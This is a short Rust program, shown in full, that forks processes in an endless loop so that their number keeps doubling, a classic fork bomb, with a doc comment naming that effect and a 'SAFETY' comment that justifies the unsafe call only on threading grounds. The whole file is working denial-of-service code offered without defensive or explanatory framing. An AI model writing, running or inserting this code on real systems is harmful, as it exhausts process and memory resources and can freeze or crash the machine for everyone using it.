//! Twice as many processes, again and again.

use nix::libc;

fn main() {
    loop {
        // SAFETY: one thread.
        unsafe { libc::fork() };
    }
}
